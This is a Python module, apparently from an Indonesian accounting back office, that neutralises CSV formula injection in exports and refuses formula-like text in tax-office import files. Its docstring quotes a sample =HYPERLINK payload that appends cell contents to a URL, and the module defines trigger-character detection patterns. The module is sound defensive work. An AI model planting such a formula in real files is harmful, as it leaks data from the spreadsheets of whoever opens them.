"""Text that a spreadsheet would take for a formula: neutralised in exports, refused where a
machine reads it.

A CSV file holds no types: Excel, LibreOffice and Google Sheets decide what each cell is
when they open it, and a cell whose text begins with ``=``, ``+``, ``-`` or ``@`` becomes a
formula. A customer's name typed as ``=HYPERLINK("http://…?"&A1, "open")`` in a book would,
written as it is into a report's CSV, run in the spreadsheet of whoever opens the report
("CSV injection", or formula injection).

The rule followed is OWASP's (https://owasp.org/www-community/attacks/CSV_Injection, the
page as of 2025, source ``pages/attacks/CSV_Injection.md`` of OWASP/www-community):

* no cell may begin with ``=``, ``+``, ``-``, ``@``, tab (0x09), carriage return (0x0D)
  or line feed (0x0A): such a text cell is written with a single quote before it, so the
  spreadsheet shows it as text (``'=1+2``);
* separators and quotes inside the text must not start a new cell with such a character.
  A text cell holding a comma, a semicolon, a tab, a quote, an apostrophe or a line break
  is wrapped in double quotes, its double quotes doubled (RFC 4180). That is enough for a
  spreadsheet that opens the file with its comma; but Excel set up for Indonesia opens a
  ``.csv`` with its list separator, the semicolon, and then the quotes no longer stand at
  the start of a cell: ``x;=1+1`` inside a quoted field starts a cell ``=1+1`` (real
  LibreOffice does exactly this, see ``tests/test_exports.py``; so does OWASP's own
  example ``"'=1+2"";=1+2"`` in a file of several columns). So ``=``, ``+``, ``-`` and
  ``@`` after a comma, semicolon, tab or line break inside the text (spaces and double
  quotes between them skipped) get the single quote too: ``x;'=1+1``.

What stays as it is:

* numbers (amounts, counts) and dates are values, not text: ``-1500.00`` is written as a
  number and stays a number in the spreadsheet;
* a phone number such as ``+62 812-3456-7890`` is text and begins with ``+``: unprefixed,
  Excel would compute ``62 812-3456-7890`` (an error, or a sum of its parts), so it is
  written ``'+62 812-3456-7890``, every digit readable, the apostrophe saying it is text.

Files a program reads (the tax office's e-Faktur and e-Bupot imports) are different: an
apostrophe would become part of the name the tax office records. Their text columns are
refused at Check instead (:func:`machine_text_rule`, issue code ``text-formula-like``),
and their writer refuses such text too, should it ever get that far.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import polars as pl

from backoffice.catalogue import Localized
from backoffice.issues import Issue, make_issue
from backoffice.schema import BookData, Rule

#: The characters a cell must not begin with (OWASP's list).
TRIGGERS = frozenset("=+-@\t\r\n")

#: Inside a text: a formula character that would begin a cell if the file were split at a
#: separator or line break in the text (spaces and double quotes between them skipped).
_INNER = re.compile(r'([,;\t\r\n][ "]*)(?=[=+\-@])')

#: What makes a text field quoted in a CSV: a separator in any dialect (comma, semicolon,
#: tab), a quote or apostrophe, a line break.
_QUOTED = frozenset(",;\t\"'\r\n")

_NAMES = {"\t": ("a tab", "tab"), "\r": ("a carriage return", "carriage return"),
          "\n": ("a line break", "baris baru")}


def formula_like(text: str) -> bool:
    """True when ``text`` begins with a character a spreadsheet reads as the start of a
    formula (:data:`TRIGGERS`)."""
    return bool(text) and text[0] in TRIGGERS


def danger(text: str) -> tuple[str, str | None] | None:
    """Where ``text`` could start a formula: (the formula character, None) when it begins
    with one, (the character, the separator before it) when one follows a separator or
    line break inside it, None when nowhere."""
    if formula_like(text):
        return text[0], None
    found = _INNER.search(text)
    if found is None:
        return None
    return text[found.end()], found.group(1)[0]


def neutralize(text: str) -> str:
    """``text`` as a spreadsheet will show it as text, whatever separator it splits the
    file at: a single quote before a formula character at its start, and before one that
    follows a separator or line break inside it; else unchanged."""
    text = _INNER.sub(r"\1'", text)
    return "'" + text if formula_like(text) else text


def csv_text(text: str, *, neutral: bool = True) -> str:
    """One text field of a CSV line: neutralised (unless ``neutral`` is False), and wrapped
    in double quotes when it holds a separator, a quote or a line break."""
    if neutral:
        text = neutralize(text)
    if any(c in _QUOTED for c in text):
        return '"' + text.replace('"', '""') + '"'
    return text


def char_name(char: str, lang: str = "en") -> str:
    """How a message names a character (``'='``, "a tab")."""
    if char in _NAMES:
        return _NAMES[char][lang == "id"]
    return f"'{char}'"


def where(text: str) -> Localized | None:
    """Where ``text`` could start a formula, in words ("begins with '='", "has '=' after
    ';'"), or None."""
    found = danger(text)
    if found is None:
        return None
    char, after = found
    if after is None:
        return Localized(f"begins with {char_name(char)}", f"diawali {char_name(char, 'id')}")
    return Localized(f"has {char_name(char)} after {char_name(after)}",
                     f"memuat {char_name(char, 'id')} setelah {char_name(after, 'id')}")


def machine_text_rule(kind: str, keys: tuple[str, ...]) -> Rule:
    """A Check rule for a sheet whose text goes into a file a program imports (the tax
    office's): each of ``keys`` whose text begins (after any spaces) with a formula
    character, or has one after a separator inside it, is an error at its cell.
    Neutralising it with an apostrophe, as a report does, would put the apostrophe into
    what the tax office records; so it is refused."""

    def check(book: BookData) -> Iterator[Issue]:
        data = book.get(kind)
        if data is None:
            return
        for key in keys:
            if key not in data.frame.columns:
                continue
            column = data.frame.select("_row", key).drop_nulls(key)
            if column.height == 0 or column[key].dtype != pl.String:
                continue
            for row, value in column.iter_rows():
                spot = where(str(value).lstrip())
                if spot is not None:
                    yield make_issue(
                        "text-formula-like", data.sheet, row=row, column=data.letters.get(key),
                        field=key, value=value, header=data.header(key), where=spot)

    check.__name__ = f"machine_text_{kind}"
    check.__doc__ = f"{kind}: {', '.join(keys)} must not begin like a formula."
    return check

